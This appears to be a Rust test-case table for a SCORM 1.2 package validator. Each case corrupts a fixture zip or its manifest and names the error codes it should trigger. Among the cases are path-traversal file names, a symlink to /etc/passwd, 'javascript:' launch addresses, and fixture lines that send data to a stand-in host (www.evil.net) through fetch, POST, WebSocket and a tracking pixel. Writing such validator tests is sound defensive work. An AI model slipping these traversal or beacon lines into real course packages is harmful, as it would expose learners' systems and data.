@@ -1,0 +1,248 @@
+//! SCORM 1.2, and what is asked of every archive and page.
+
+use crate::Case;
+use crate::packages::{Entry, archive};
+
+/// One change each, by the letter of the codes.
+pub const CASES: &[Case] = &[
+    ("cut in half", &["Z001"], |p| p.after = |b| b.truncate(b.len() / 2)),
+    ("empty", &["Z001"], |p| p.after = Vec::clear),
+    ("a directory offset that is off by one", &["Z002"], |p| p.after = |b| bump(b, 16)),
+    ("a local header that names another file", &["Z002"], |p| p.after = |b| b[30] = b'x'),
+    ("one entry more than counted", &["Z002"], |p| p.after = |b| bump(b, 10)),
+    ("encrypted", &["Z003"], |p| p.entries[0].flags = 1),
+    ("zip64 size", &["Z004"], |p| p.entries[0].size = u32::MAX),
+    ("zip64 extra field", &["Z004"], |p| p.entries[0].extra = vec![1, 0, 0, 0]),
+    ("lzma", &["Z005"], |p| p.entries[0].method = 14),
+    ("two files in the same bytes", &["Z006"], |p| {
+        let mut twin = p.entries[0].clone();
+        twin.shares = Some(1);
+        p.entries.push(twin);
+    }),
+    ("20 001 files", &["Z007"], |p| p.entries = vec![Entry::stored("a", b""); 20_001]),
+    ("600 MB declared", &["Z008"], |p| p.entries[0].size = 600 << 20),
+    ("declared too small", &["Z009"], |p| p.entries[0].size -= 1),
+    ("declared too large", &["Z009"], |p| p.entries[0].size += 1),
+    ("wrong checksum", &["Z010"], |p| p.entries[0].crc ^= 1),
+    ("deflate that is none", &["Z010"], |p| p.entries[0].method = 8),
+    ("up and away", &["Z011", "M032"], |p| p.unlisted("a/../../evil", b"")),
+    ("absolute", &["Z011", "M032"], |p| p.unlisted("/etc/evil", b"")),
+    ("drive letter", &["Z011", "Z018", "M032"], |p| p.unlisted("c:evil", b"")),
+    ("up and away by backslash", &["Z011", "M032"], |p| p.unlisted("..\\evil", b"")),
+    ("backslash", &["Z012"], |p| p.listed("a\\b.txt", b"")),
+    ("doubled", &["Z013"], |p| p.unlisted("style.css", b"")),
+    ("doubled by case", &["Z014", "Z018"], |p| p.listed("Style.css", b"")),
+    ("doubled after cleaning", &["Z015", "Z018"], |p| p.listed("sty'le.css", b"")),
+    ("accent", &["Z016"], |p| p.listed("é.txt", b"")),
+    ("accent without flag", &["Z017"], |p| {
+        p.listed("é.txt", b"");
+        p.entries[3].flags = 0;
+    }),
+    ("cp437", &["Z017", "M032"], |p| {
+        let mut entry = Entry::stored("x.txt", b"");
+        entry.name[0] = 0x82;
+        p.entries.push(entry);
+    }),
+    ("capitals and blanks", &["Z018"], |p| p.listed("A b.txt", b"")),
+    ("device", &["Z019"], |p| p.listed("aux.txt", b"")),
+    ("port", &["Z019"], |p| p.listed("com1", b"")),
+    ("question mark", &["Z019", "Z018"], |p| p.listed("a?.txt", b"")),
+    ("dot at the end", &["Z019"], |p| p.listed("a.", b"")),
+    ("php", &["Z020"], |p| p.listed("a.php", b"")),
+    ("symbolic link", &["Z021"], |p| {
+        p.listed("a.txt", b"/etc/passwd");
+        p.entries[3].mode = 0o120_777;
+    }),
+    ("folder", &["Z022"], |p| p.unlisted("media/", b"")),
+    ("101 MB", &["Z023"], |p| p.listed("a.mp4", &vec![0; 101 << 20])),
+    ("zip in zip", &["Z024"], |p| p.listed("a.zip", &archive(&[]))),
+    ("macOS litter", &["Z018", "Z025", "M032"], |p| p.unlisted("__MACOSX/._a", b"")),
+    ("long name", &["Z026"], |p| p.listed(&"a".repeat(256), b"")),
+    ("33 MB of script", &["Z027"], |p| p.listed("b.js", &vec![b' '; 33 << 20])),
+    ("51 times the same", &["Z022", "Z028"], |p| (0..51).for_each(|n| p.unlisted(&format!("a{n}/"), b""))),
+    // The manifest.
+    ("no manifest", &["M001"], |p| {
+        p.manifest_name = "";
+        p.entries[1].name = b"start.html".to_vec();
+    }),
+    ("manifest in a folder", &["M002"], |p| p.manifest_name = "module/imsmanifest.xml"),
+    ("manifest in capitals", &["M003", "Z018"], |p| p.manifest_name = "IMSMANIFEST.XML"),
+    ("the manifest of another kind", &["M009"], |p| p.manifest_name = "cmi5.xml"),
+    ("h5p", &["M039"], |p| p.manifest_name = "h5p.json"),
+    ("aicc", &["M039"], |p| p.manifest_name = "course.crs"),
+    ("malformed", &["M004"], |p| p.manifest("</resources>", "")),
+    ("bare ampersand", &["M004"], |p| p.manifest("Module", "Q&A")),
+    ("prefix not declared", &["M004"], |p| p.manifest("xmlns:adlcp", "xmlns:other")),
+    ("empty manifest", &["M004"], |p| p.manifest.clear()),
+    ("doctype", &["M005"], |p| p.manifest("<manifest", "<!DOCTYPE manifest [<!ENTITY a 'b'>]>\n<manifest")),
+    ("utf-16", &["M006"], |p| {
+        let text = String::from_utf8(p.manifest.clone()).expect("text").replace("UTF-8", "UTF-16");
+        p.manifest = [0xfeff].into_iter().chain(text.encode_utf16()).flat_map(u16::to_le_bytes).collect();
+    }),
+    ("latin-1", &["M006"], |p| {
+        let text = String::from_utf8(p.manifest.clone()).expect("text").replace("UTF-8", "ISO-8859-1");
+        p.manifest = text.chars().map(|c| c as u8).collect();
+    }),
+    ("latin-1 that says utf-8", &["M007"], |p| {
+        p.manifest = String::from_utf8_lossy(&p.manifest).chars().map(|c| c as u8).collect();
+    }),
+    ("byte order mark", &["M008"], |p| p.manifest("<?xml", "\u{feff}<?xml")),
+    ("another namespace", &["M009"], |p| p.manifest("imscp_rootv1p1p2", "imscp_rootv9")),
+    ("another root", &["M009"], |p| p.manifest = b"<html/>".to_vec()),
+    ("another prefix for ADL", &["M010"], |p| {
+        p.manifest("xmlns:adlcp", "xmlns:sc");
+        p.manifest("adlcp:scormtype", "sc:scormtype");
+    }),
+    ("a prefix for content packaging", &["M010"], |p| {
+        p.manifest("xmlns:adlcp", "xmlns:cp=\"http://www.imsproject.org/xsd/imscp_rootv1p1p2\" xmlns:adlcp");
+        p.manifest("<file href=\"app.js\"/>", "<cp:file href=\"app.js\"/>");
+    }),
+    ("another ADL namespace", &["M011", "M025"], |p| p.manifest("adlcp_rootv1p2", "adlcp_rootv1p1")),
+    ("schema", &["M012"], |p| p.manifest("ADL SCORM", "IMS Content")),
+    ("schema missing", &["M012"], |p| p.manifest("<schema>ADL SCORM</schema>", "")),
+    ("version of 2004", &["M013"], |p| p.manifest(">1.2<", ">2004 3rd Edition<")),
+    ("version with blanks", &["M013"], |p| p.manifest(">1.2<", "> 1.2 <")),
+    ("no organization", &["M014"], |p| {
+        p.manifest("<organization identifier=\"o1\">", "<!--");
+        p.manifest("</organization>", "-->");
+        p.manifest(" default=\"o1\"", "");
+    }),
+    ("unknown default", &["M015"], |p| p.manifest("default=\"o1\"", "default=\"o2\"")),
+    ("no default", &["M016"], |p| p.manifest(" default=\"o1\"", "")),
+    ("no item", &["M017"], |p| {
+        p.manifest("<item", "<!--");
+        p.manifest("</item>", "-->");
+    }),
+    ("no title", &["M018"], |p| p.manifest("<title>Module</title>", "")),
+    ("empty title", &["M018"], |p| p.manifest("<title>Module</title>", "<title> </title>")),
+    ("dangling reference", &["M019"], |p| p.manifest("identifierref=\"r1\"", "identifierref=\"r2\"")),
+    ("reference to an item", &["M019"], |p| p.manifest("identifierref=\"r1\"", "identifierref=\"o1\"")),
+    ("doubled identifier", &["M020"], |p| p.manifest("item identifier=\"i1\"", "item identifier=\"o1\"")),
+    ("identifier with blank", &["M021"], |p| p.manifest("\"i1\"", "\"i 1\"")),
+    ("identifier with digit", &["M021"], |p| p.manifest("\"i1\"", "\"1i\"")),
+    ("no identifier", &["M021"], |p| p.manifest("identifier=\"i1\" ", "")),
+    ("identifier with accent", &["M022"], |p| p.manifest("\"i1\"", "\"été\"")),
+    ("item without resource", &["M023"], |p| {
+        p.manifest("</item>", "</item><item identifier=\"i2\"><title>B</title></item>")
+    }),
+    ("type", &["M024"], |p| p.manifest("webcontent", "text/html")),
+    ("no scormtype", &["M025"], |p| p.manifest("adlcp:scormtype=\"sco\" ", "")),
+    ("no href", &["M026"], |p| p.manifest(" href=\"index.html\">", ">")),
+    ("file missing", &["M027"], |p| p.manifest("<file href=\"style", "<file href=\"other.css\"/><file href=\"style")),
+    ("external metadata missing", &["M027"], |p| {
+        p.manifest("</item>", "<metadata><adlcp:location>a.xml</adlcp:location></metadata></item>");
+    }),
+    ("case of a file", &["M028"], |p| p.manifest("<file href=\"style.css\"", "<file href=\"STYLE.css\"")),
+    ("resource elsewhere", &["M029"], |p| p.manifest(" href=\"index.html\">", " href=\"https://www.evil.net/\">")),
+    ("leading slash", &["M030"], |p| p.manifest(" href=\"index.html\">", " href=\"/index.html\">")),
+    ("way out", &["M030"], |p| p.manifest(" href=\"index.html\">", " href=\"../index.html\">")),
+    ("backslash in href", &["M030"], |p| p.manifest(" href=\"index.html\">", " href=\"a\\index.html\">")),
+    ("script address", &["M030"], |p| p.manifest(" href=\"index.html\">", " href=\"javascript:x\">")),
+    ("launch file not listed", &["M031"], |p| p.manifest("<file href=\"index.html\"/>", "")),
+    ("file not listed", &["M032"], |p| p.unlisted("b.txt", b"")),
+    ("element of another version", &["M033"], |p| {
+        p.manifest("</item>", "<adlcp:completionThreshold/></item>");
+    }),
+    ("an attribute of nobody", &["M033"], |p| p.manifest("<item ", "<item colour=\"red\" ")),
+    ("dependency on nothing", &["M043"], |p| p.manifest("</resource>", "<dependency/></resource>")),
+    ("text between elements", &["M044"], |p| {
+        p.manifest("<organizations default=\"o1\">", "<organizations default=\"o1\">x")
+    }),
+    ("long title", &["M045"], |p| p.manifest(">Module<", &format!(">{}<", "é".repeat(201)))),
+    ("element of nobody", &["M033"], |p| p.manifest("</item>", "<rating/></item>")),
+    ("camel case", &["M033"], |p| p.manifest("</item>", "<adlcp:dataFromLMS>x</adlcp:dataFromLMS></item>")),
+    ("organizations after resources", &["M034"], |p| {
+        p.manifest("</manifest>", "<organizations/></manifest>");
+    }),
+    ("mastery above 100", &["M035", "L008"], |p| {
+        p.manifest("</item>", "<adlcp:masteryscore>101</adlcp:masteryscore></item>")
+    }),
+    ("time", &["M035"], |p| p.manifest("</item>", "<adlcp:maxtimeallowed>90 min</adlcp:maxtimeallowed></item>")),
+    ("prerequisites", &["M035"], |p| {
+        p.manifest("</item>", "<adlcp:prerequisites type=\"x\">a</adlcp:prerequisites></item>")
+    }),
+    ("two SCOs", &["M036"], |p| {
+        p.manifest("</item>", "</item><item identifier=\"i2\" identifierref=\"r2\"><title>B</title></item>");
+        let second = r#"</resource><resource identifier="r2" type="webcontent" adlcp:scormtype="sco" href="index.html"><file href="index.html"/></resource>"#;
+        p.manifest("</resource>", second);
+    }),
+    ("half of the metadata", &["M037"], |p| {
+        p.manifest("<metametadata><metadatascheme>ADL SCORM 1.2</metadatascheme></metametadata>", "<metametadata/>");
+    }),
+    ("common cartridge", &["M039"], |p| {
+        p.manifest(
+            "http://www.imsproject.org/xsd/imscp_rootv1p1p2",
+            "http://www.imsglobal.org/xsd/imsccv1p1/imscp_v1p1",
+        );
+    }),
+    ("manifest in the manifest", &["M040"], |p| {
+        p.manifest("</manifest>", "<manifest identifier=\"m2\"><organizations/><resources/></manifest></manifest>");
+    }),
+    ("too many attributes", &["M041"], |p| {
+        let all: String = (0..1_100).map(|n| format!(" a{n}=''")).collect();
+        p.manifest("<item", &format!("<item{all}"));
+    }),
+    ("assets only", &["M042", "L018"], |p| p.manifest("\"sco\"", "\"asset\"")),
+    // What Moodle does.
+    ("no tracking", &["L001"], |p| p.entries[0] = Entry::stored("app.js", b"var a = 1;")),
+    ("very long title", &["L002", "M045"], |p| p.manifest(">Module<", &format!(">{}<", "é".repeat(256)))),
+    ("long identifier", &["L002"], |p| p.manifest("\"i1\"", &format!("\"i{}\"", "1".repeat(255)))),
+    ("numeric reference", &["L003"], |p| p.manifest("L'été &amp;", "L&#39;été &amp;")),
+    ("cdata", &["L004"], |p| p.manifest(">Module<", "><![CDATA[Q&A]]><")),
+    ("title zero", &["L005"], |p| p.manifest(">Module<", ">0<")),
+    ("title on three lines", &["L006"], |p| p.manifest(">Module<", ">\n  Module\n<")),
+    ("base", &["L007"], |p| {
+        p.manifest("<resources>", "<resources xml:base=\"a/\">");
+        p.entries.iter_mut().for_each(|e| e.name = [b"a/", &e.name[..]].concat());
+    }),
+    ("mastery", &["L008"], |p| p.manifest("</item>", "<adlcp:masteryscore>70</adlcp:masteryscore></item>")),
+    ("mjs", &["L009"], |p| p.listed("b.mjs", b"")),
+    ("unload", &["L010"], |p| p.append("app.js", "addEventListener(\"unload\", f);")),
+    ("onbeforeunload", &["L010"], |p| p.append("app.js", "window.onbeforeunload = f;")),
+    ("attribute onunload", &["L010"], |p| p.append("index.html", "<body onunload=\"f()\">")),
+    ("names of 2004", &["L011"], |p| p.append("app.js", "api.LMSSetValue('cmi.completion_status', x)")),
+    ("description of an interaction", &["L011"], |p| p.append("app.js", "f('cmi.interactions.0.description', x)")),
+    ("exit normal", &["L012"], |p| p.append("app.js", "api.LMSSetValue('cmi.core.exit', 'normal')")),
+    ("status complete", &["L013"], |p| p.append("app.js", "set('cmi.core.lesson_status', 'complete')")),
+    ("the other API", &["L014"], |p| {
+        p.entries[0] =
+            Entry::stored("app.js", b"var a = w.API_1484_11; a.Initialize(''); a.SetValue('cmi.location', 'x')");
+    }),
+    ("no finish", &["L015"], |p| p.entries[0] = Entry::stored("app.js", b"api.LMSInitialize('')")),
+    ("tags in a title", &["L016"], |p| p.manifest(">Module<", ">&lt;b>Module&lt;/b><")),
+    ("hidden", &["L017"], |p| p.manifest("\"true\"", "\"false\"")),
+    ("asset in the contents", &["L018"], |p| {
+        p.manifest("</item>", "</item><item identifier=\"i2\" identifierref=\"r2\"><title>B</title></item>");
+        let second = r#"</resource><resource identifier="r2" type="webcontent" adlcp:scormtype="asset" href="index.html"><file href="index.html"/></resource>"#;
+        p.manifest("</resource>", second);
+    }),
+    // Privacy.
+    ("font", &["P001"], |p| p.append("style.css", "@import url(https://fonts.evil.net/a.css);")),
+    ("image in a style", &["P001"], |p| p.append("index.html", "<p style=\"background:url('//www.evil.net/a')\">")),
+    ("script from elsewhere", &["P001"], |p| p.append("index.html", "<SCRIPT SRC=https://cdn.evil.net/a.js></SCRIPT>")),
+    ("srcset", &["P001"], |p| p.append("index.html", "<img srcset=\"a.png 1x, https://www.evil.net/a.png 2x\">")),
+    ("fetch", &["P001"], |p| p.append("app.js", "fetch(`https://www.evil.net/${a}`)")),
+    ("fetch in a handler", &["P001"], |p| p.append("index.html", "<p onclick=\"fetch('https://www.evil.net/')\">")),
+    ("request", &["P001"], |p| p.append("app.js", "x.open('POST', 'https://www.evil.net/')")),
+    ("socket", &["P001"], |p| p.append("app.js", "new WebSocket('wss://www.evil.net/')")),
+    ("pixel", &["P001"], |p| p.append("index.html", "<script>new Image().src='//www.evil.net/a.gif'</script>")),
+    ("form", &["P002"], |p| p.append("index.html", "<form action=\"https://www.evil.net/\">")),
+    ("key in the manifest", &["P006"], |p| p.manifest(">Un module<", ">AKIAABCDEFGHIJ234567<")),
+    ("address", &["P003"], |p| p.append("app.js", "var a = 'https://www.elsewhere.net/';")),
+    ("storage", &["P004"], |p| p.append("app.js", "localStorage.setItem('notes', a)")),
+    ("cookie", &["P005"], |p| p.append("app.js", "document.cookie = 'a=b'")),
+    ("basic", &["P006"], |p| p.append("app.js", "h['Authorization'] = 'Basic dXNlcjpwYXNzd29yZA==';")),
+    ("launch address", &["P006"], |p| {
+        p.append("app.js", "var q = '?endpoint=x&auth=Basic%20dXNlcjpwYXNzd29yZA%3D%3D';")
+    }),
+    ("aws", &["P006"], |p| p.listed("a.json", br#"{"k": "AKIAABCDEFGHIJ234567"}"#)),
+    ("named secret", &["P006"], |p| p.append("app.js", "var c = { client_secret: 'a1b2c3d4e5f6a7b8c9' };")),
+    ("name of the learner", &["P007"], |p| p.append("app.js", "api.LMSGetValue('cmi.core.student_name')")),
+    ("camera", &["P008"], |p| p.append("app.js", "navigator.mediaDevices.getUserMedia({})")),
+];
+
+/// Adds one to a byte of the end-of-directory record.
+fn bump(bytes: &mut [u8], offset: usize) {
+    let at = bytes.len() - 22 + offset;
+    bytes[at] = bytes[at].wrapping_add(1);
+}
